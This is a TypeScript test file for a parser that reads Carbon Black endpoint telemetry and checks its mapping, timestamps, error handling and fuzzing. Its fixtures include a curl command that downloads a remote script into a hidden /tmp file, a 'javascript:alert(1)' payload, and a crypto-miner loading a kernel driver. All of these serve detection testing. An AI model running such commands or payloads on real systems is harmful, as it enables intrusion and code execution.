import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import type { CoalEvent } from '../model/event.js';
import { carbonBlack } from './carbon-black.js';
import {
  countsOf,
  cutLineCase,
  fileInput,
  fixturesClaimedBy,
  memoryInput,
  readAll,
  runDocumentFuzz,
  runLineFuzz,
  runSourceContract,
  TEST_CONTEXT,
} from './contract.js';
import { sniffSource } from './index.js';

const DIR = 'test/fixtures/carbon-black';
const PUBLIC = 'test/fixtures/public/carbon-black';
const good = fileInput(`${DIR}/good.json`);
const bad = fileInput(`${DIR}/bad.json`);
runSourceContract({
  source: carbonBlack,
  good,
  bad,
  // the forwarder's file copied while the Cloud procstart was written: it ends inside the child's command line
  cut: cutLineCase(good, 5, '"childproc_cmdline": "', '\\"C:\\\\Windows\\\\system32\\\\cutoff-notep'),
});

const line = (o: unknown) => `${JSON.stringify(o)}\n`;
/** Events as the file lists them (the reader gives them in time order): what these tests pick by place. */
const inFileOrder = (events: readonly CoalEvent[]) =>
  [...events].sort((a, b) => (a.coalmine.ref.line ?? 0) - (b.coalmine.ref.line ?? 0));

test('every shape maps to the shared verbs; deletes, child-process notices and alerts are unused', async () => {
  const events = inFileOrder((await readAll(carbonBlack, good)).events);
  assert.deepEqual(
    events.map((e) => [e.coalmine.ref.line, e.event.dataset, e.event.action]),
    [
      [1, 'carbon-black.ingress.event.procstart', 'exec'],
      [2, 'carbon-black.ingress.event.netconn', 'connect'],
      [4, 'carbon-black.ingress.event.filemod', 'file-write'],
      [6, 'carbon-black.endpoint.event.procstart', 'exec'],
      [7, 'carbon-black.endpoint.event.netconn', 'connect'],
      [8, 'carbon-black.endpoint.event.regmod', 'registry-set'],
      [10, 'carbon-black.events.childproc', 'exec'],
      [11, 'carbon-black.events.netconn', 'connect'],
      [12, 'carbon-black.process', 'exec'],
    ],
  );
  // line 3 deletes a file, 5 is a childproc notice, 9 deletes a key, 13 is a watchlist alert
  assert.deepEqual(await countsOf(carbonBlack, good), { events: 9, issues: 0, unused: 4 });
});

test('an EDR procstart: guid, pid, path, command line, user, hashes; the parent guid from its console link', async () => {
  const events = inFileOrder((await readAll(carbonBlack, good)).events);
  const e = events[0];
  assert.equal(e['@timestamp'], '2026-11-30T09:00:00.250Z');
  assert.deepEqual(e.host, { name: 'web-3', os: { platform: 'linux' } });
  assert.deepEqual(e.process, {
    entity_id: '00000015-0000-1092-01dd-80a92df76800',
    pid: 4242,
    user: { name: 'www-data' },
    hash: { md5: '0a1b2c3d4e5f60718293a4b5c6d7e8f9' },
    executable: '/usr/bin/curl',
    name: 'curl',
    command_line: '/usr/bin/curl -fsSL http://203.0.113.9/x.sh -o /tmp/.x',
    // the forwarder's numeric `parent_guid` is not the parent's process guid: the link is
    parent: {
      entity_id: '00000015-0000-04d2-01dd-80a11a480380',
      pid: 1234,
      name: 'bash',
      executable: '/bin/bash',
    },
    args: ['/usr/bin/curl', '-fsSL', 'http://203.0.113.9/x.sh', '-o', '/tmp/.x'],
  });
});

test('netconns: an inbound EDR one has the peer as source; a Cloud one keeps the name it resolved', async () => {
  const events = inFileOrder((await readAll(carbonBlack, good)).events);
  assert.deepEqual(events[1].source, { ip: '198.51.100.77', port: 52311 });
  assert.deepEqual(events[1].destination, { ip: '10.0.0.5', port: 22 });
  assert.deepEqual(events[1].network, { direction: 'inbound', transport: 'tcp' });
  assert.deepEqual(events[4].destination, { ip: '192.0.2.80', port: 443, domain: 'updates.example.com' });
  assert.deepEqual(events[4].source, { ip: '10.1.2.3', port: 50100 });
  assert.equal(events[4].process?.entity_id, '7DESJ9GN-0064e5a1-000016f8-00000000-1dd80a92df76800');
  // the API's signed 32-bit integer addresses
  assert.deepEqual(events[7].destination, { ip: '192.168.1.2', port: 8443, domain: 'intranet.example' });
  assert.deepEqual(events[7].source, { ip: '10.0.0.5', port: 50211 });
  assert.equal(events[7].process?.pid, 7000);
});

test('a Cloud procstart is written by the parent: the childproc is the process, the writer its parent', async () => {
  const events = inFileOrder((await readAll(carbonBlack, good)).events);
  const e = events[3];
  assert.equal(e['@timestamp'], '2026-11-30T09:00:30.125Z');
  // the device name's domain is not part of the host name typeperf and Sysmon know
  assert.deepEqual(e.host, { name: 'WS-HR-11', os: { platform: 'windows' } });
  assert.equal(e.process?.entity_id, '7DESJ9GN-0064e5a1-000016f8-00000000-1dd80a92df76800');
  assert.equal(e.process?.pid, 5880);
  assert.equal(e.process?.executable, 'c:\\windows\\system32\\notepad.exe');
  assert.equal(e.process?.command_line, '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\mlee\\todo.txt');
  assert.deepEqual(e.process?.user, { name: 'CORP\\mlee' });
  assert.deepEqual(e.process?.hash, {
    md5: '7353f60b1739074eb17c5f4dddefe239',
    sha256: 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c',
  });
  assert.deepEqual(e.process?.parent, {
    entity_id: '7DESJ9GN-0064e5a1-00000fa0-00000000-1dd80a11a480380',
    pid: 4000,
    name: 'explorer.exe',
    executable: 'c:\\windows\\explorer.exe',
    command_line: 'C:\\Windows\\Explorer.EXE',
  });
  // Windows command lines are not split (as from Sysmon)
  assert.equal(e.process?.args, undefined);
});

test('registry keys get the hive names; event and process search results map their lists', async () => {
  const events = inFileOrder((await readAll(carbonBlack, good)).events);
  assert.deepEqual(events[5].registry, {
    path: 'HKU\\S-1-5-21-1-2-3-1104\\Software\\Microsoft\\Notepad\\fWrap',
    value: 'fWrap',
  });
  const child = events[6];
  assert.equal(child.process?.entity_id, '7DESJ9GN-0064e5a1-00001b58-00000000-1dd80a93a0f1200');
  assert.deepEqual(child.process?.parent, {
    entity_id: '7DESJ9GN-0064e5a1-000016f8-00000000-1dd80a92df76800',
    pid: 5880,
  });
  const proc = events[8];
  assert.equal(proc['@timestamp'], '2026-11-30T06:00:24.450Z', 'a process result is dated by its start');
  assert.equal(proc.process?.pid, 2976);
  assert.equal(proc.process?.command_line, '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe"');
  assert.deepEqual(proc.process?.user, { name: 'NT AUTHORITY\\SYSTEM' });
  assert.equal(proc.process?.parent?.executable, 'c:\\windows\\system32\\services.exe');
  assert.equal(proc.original.process_pid, 2976);
});

test('bad records are reported by line with a reason, the good ones are read', async () => {
  const { events, issues } = await readAll(carbonBlack, bad);
  assert.deepEqual(
    issues.map((i) => [i.line, i.code]),
    [
      [2, 'CARBON_BLACK_BAD_JSON'],
      [3, 'CARBON_BLACK_BAD_RECORD'],
      [4, 'CARBON_BLACK_BAD_RECORD'],
      [5, 'CARBON_BLACK_BAD_RECORD'],
      [6, 'CARBON_BLACK_BAD_RECORD'],
      [7, 'CARBON_BLACK_BAD_RECORD'],
      [8, 'CARBON_BLACK_BAD_RECORD'],
      [9, 'CARBON_BLACK_BAD_RECORD'],
      [10, 'CARBON_BLACK_BAD_RECORD'],
      [11, 'CARBON_BLACK_BAD_RECORD'],
    ],
  );
  const reasons = issues.slice(1).map((i) => i.reason);
  assert.match(reasons[0], /not an object/);
  assert.match(reasons[1], /type "osquery.result" is no Carbon Black event type/);
  assert.match(reasons[2], /no Carbon Black record type/);
  assert.match(reasons[3], /timestamp "yesterday" is not a time/);
  assert.match(reasons[4], /no time \(timestamp\)/);
  assert.match(reasons[5], /procstart names no process/);
  assert.match(reasons[6], /netconn without a remote address or name/);
  assert.match(reasons[7], /procstart without the process it started/);
  assert.match(reasons[8], /filemod without the file/);
  assert.deepEqual(
    events.map((e) => e.coalmine.ref.line),
    [1, 12],
  );
});

test('API answers as documents: an array, a pretty-printed or one-line {"results": […]}, results inside a line', async () => {
  const records = [
    {
      event_type: 'childproc',
      event_timestamp: '2026-11-30T09:00:00Z',
      process_guid: 'ORG1-00000001-00000010-00000000-1dd',
      process_pid: 16,
      childproc_guid: 'ORG1-00000001-00000020-00000000-1dd',
      childproc_pid: 32,
      childproc_name: 'c:\\windows\\system32\\cmd.exe',
    },
    {
      event_type: 'modload',
      event_timestamp: '2026-11-30T09:00:01Z',
      process_guid: 'ORG1-00000001-00000020-00000000-1dd',
      modload_name: 'c:\\windows\\system32\\kernel32.dll',
    },
    {
      event_type: 'netconn',
      event_timestamp: '2026-11-30T09:00:02Z',
      process_guid: 'ORG1-00000001-00000020-00000000-1dd',
      netconn_remote_ipv6: '20010db8000000000000000000000001',
      netconn_remote_port: 443,
    },
  ];
  const shapes: Array<[string, string]> = [
    ['array.json', JSON.stringify(records, null, 2)],
    ['pretty.json', JSON.stringify({ results: records, num_found: 3 }, null, 2)],
    ['compact.json', JSON.stringify({ results: records, num_found: 3 })],
    ['lines.json', `${JSON.stringify({ num_found: 3, results: records })}\n`],
  ];
  for (const [name, text] of shapes) {
    const input = memoryInput(name, text);
    assert.equal(sniffSource(input)?.name, 'carbon-black', name);
    const read = await readAll(carbonBlack, input);
    const events = inFileOrder(read.events);
    const issues = read.issues;
    assert.deepEqual(issues, [], name);
    assert.deepEqual(
      events.map((e) => [e.event.action, e.process?.pid]),
      [
        ['exec', 32],
        ['connect', undefined],
      ],
      name,
    );
    assert.deepEqual(events[1].destination, { ip: '2001:db8::1', port: 443 }, name);
    assert.equal((await countsOf(carbonBlack, input)).unused, 1, `${name}: a DLL load is unused`);
  }
});

test('times: EDR epoch seconds, Cloud ISO and Go layouts; the host is the hint when the record names none', async () => {
  const cloud = {
    type: 'endpoint.event.procend',
    process_guid: 'ORG1-00000001-00000010-00000000-1dd',
    process_pid: 16,
    process_path: '/usr/bin/python3',
  };
  const text = [
    line({
      type: 'ingress.event.procend',
      timestamp: '1796029200',
      pid: 7,
      process_guid: '00000001-0000-0007-01dd-80a92df76800',
      process_path: '/usr/bin/sleep',
    }),
    line({ ...cloud, device_timestamp: '2026-11-30 09:00:00.5 +0000 UTC' }),
    line({ ...cloud, backend_timestamp: '2026-11-30T09:00:01Z' }),
  ].join('');
  const { events, issues } = await readAll(carbonBlack, memoryInput('t.json', text, { hostHint: 'node-4' }));
  assert.deepEqual(issues, []);
  assert.deepEqual(
    events.map((e) => [e['@timestamp'], e.event.action, e.host?.name, e.host?.os?.platform]),
    [
      ['2026-11-30T09:00:00.000Z', 'exit', 'node-4', 'linux'],
      ['2026-11-30T09:00:00.500Z', 'exit', 'node-4', 'linux'],
      ['2026-11-30T09:00:01.000Z', 'exit', 'node-4', 'linux'],
    ],
  );
});

test('a kernel driver image load is a driver load with its own hashes; other module loads are unused', async () => {
  const base = {
    type: 'ingress.event.moduleload',
    computer_name: 'WS-1',
    timestamp: 1796029200,
    pid: 6120,
    process_guid: '00000007-0000-17e8-01dd-80a92df76800',
    process_path: 'c:\\x\\miner.exe',
  };
  const text = [
    line({ ...base, path: 'c:\\x\\WinRing0x64.sys', md5: '0C0195C48B6B8582FA6F6373032118DA' }),
    line({ ...base, path: 'c:\\windows\\system32\\ntdll.dll' }),
  ].join('');
  const input = memoryInput('m.json', text);
  const { events } = await readAll(carbonBlack, input);
  assert.equal(events.length, 1);
  assert.equal(events[0].event.action, 'driver-load');
  assert.deepEqual(events[0].file, {
    path: 'c:\\x\\WinRing0x64.sys',
    name: 'WinRing0x64.sys',
    hash: { md5: '0c0195c48b6b8582fa6f6373032118da' },
  });
  assert.equal(events[0].process?.hash, undefined, "the module's md5 is not the process's");
  assert.equal(events[0].process?.pid, 6120);
  assert.equal((await countsOf(carbonBlack, input)).unused, 1);
});

test('hostile fields are bounded and mistyped ones are dropped, never thrown on', async () => {
  const record = {
    type: 'ingress.event.procstart',
    computer_name: 'h'.repeat(5000),
    timestamp: 1796029200,
    pid: -4,
    process_guid: 'x'.repeat(5000),
    path: `c:\\${'a'.repeat(10_000)}.exe`,
    command_line: `run ${'-x '.repeat(40_000)}`,
    username: { name: 'root' },
    md5: 'not-a-hash',
    parent_process_guid: ['not', 'a', 'guid'],
    parent_pid: 1e30,
    link_parent: 'javascript:alert(1)',
  };
  const many: Record<string, unknown> = { ...record };
  for (let i = 0; i < 500; i++) many[`k${i}`] = 'v'.repeat(5000);
  const text = `${line(record)}${line(many)}`;
  const { events, issues } = await readAll(carbonBlack, memoryInput('h.json', text, { hostHint: 'hint-1' }), {
    ...TEST_CONTEXT,
    maxLineBytes: 4 * 1024 * 1024,
  });
  assert.deepEqual(issues, []);
  const p = events[0].process;
  assert.equal(events[0].host?.name, 'hint-1', 'a host name over 255 characters is not a host name');
  assert.equal(p?.pid, undefined);
  assert.equal(p?.entity_id, undefined);
  assert.ok((p?.executable?.length ?? 0) < 4200);
  assert.ok((p?.command_line?.length ?? 0) < 33_000);
  assert.equal(p?.user, undefined);
  assert.equal(p?.hash, undefined);
  assert.equal(p?.parent, undefined);
  assert.ok(Object.keys(events[1].original).length <= 64);
  assert.ok(JSON.stringify(events[1].original).length < 80_000);
});

runLineFuzz(carbonBlack, {
  from: [good],
  seed: 1337,
  keys: /"(type|timestamp|device_timestamp|event_timestamp|process_guid|pid|process_pid|path|command_line|childproc_name|remote_ip|netconn_remote_ipv4|event_type)":/g,
  junk: ['[1,2]', '"ingress.event.netconn"'],
  // a file whose first line opens a document is read as one (its own test)
  keepFirstLine: true,
});
// the good records as an API answer, pretty-printed
runDocumentFuzz(
  carbonBlack,
  JSON.stringify(
    {
      results: good.head
        .toString('utf8')
        .split('\n')
        .filter((l) => l !== '')
        .map((l) => JSON.parse(l)),
    },
    null,
    1,
  ),
  1337,
  50,
);

test('the public samples read without issues and sniff as carbon-black', async () => {
  const expected: Record<string, string[]> = {
    'stix-shifter-data-forwarder-procstart.json': ['exec'],
    'cbc-sdk-process-search.json': ['exec'],
    'cbc-sdk-enriched-events-netconn.json': ['connect', 'connect'],
  };
  for (const [name, actions] of Object.entries(expected)) {
    const input = fileInput(join(PUBLIC, name));
    assert.equal(sniffSource(input)?.name, 'carbon-black', name);
    const { events, issues } = await readAll(carbonBlack, input);
    assert.deepEqual(issues, [], name);
    assert.deepEqual(
      events.map((e) => e.event.action),
      actions,
      name,
    );
  }
  // the SDK's legacy enriched netconn: an inbound RPC connection, the integer addresses decoded
  const sample = await readAll(carbonBlack, fileInput(join(PUBLIC, 'cbc-sdk-enriched-events-netconn.json')));
  const events = inFileOrder(sample.events);
  assert.deepEqual(events[0].source, { ip: '10.169.255.100', port: 38240 });
  assert.deepEqual(events[0].destination, { ip: '10.126.6.201', port: 135 });
});

test('sniffing: our own stories claim carbon-black; no other fixture in test/fixtures or examples does', () => {
  for (const f of [
    `${DIR}/an0741-miner/events.json`,
    `${DIR}/an0741-benign/events.json`,
    `${DIR}/an0741-miner-cloud/endpoint-events.json`,
    `${DIR}/an0742-miner-linux/events.json`,
  ])
    assert.equal(sniffSource(fileInput(f))?.name, 'carbon-black', f);
  assert.deepEqual(fixturesClaimedBy(carbonBlack), []);
});

test('a file listed newest first (as a search result sorts by default) is given in time order', async () => {
  const text = readFileSync(`${DIR}/good.json`, 'utf8').trim().split('\n').reverse().join('\n');
  const { events, issues } = await readAll(carbonBlack, memoryInput('newest-first.json', text));
  assert.deepEqual(issues, []);
  assert.ok(events.length > 5);
  const times = events.map((e) => e.coalmine.ts);
  assert.deepEqual(
    times,
    [...times].sort((a, b) => a - b),
  );
});
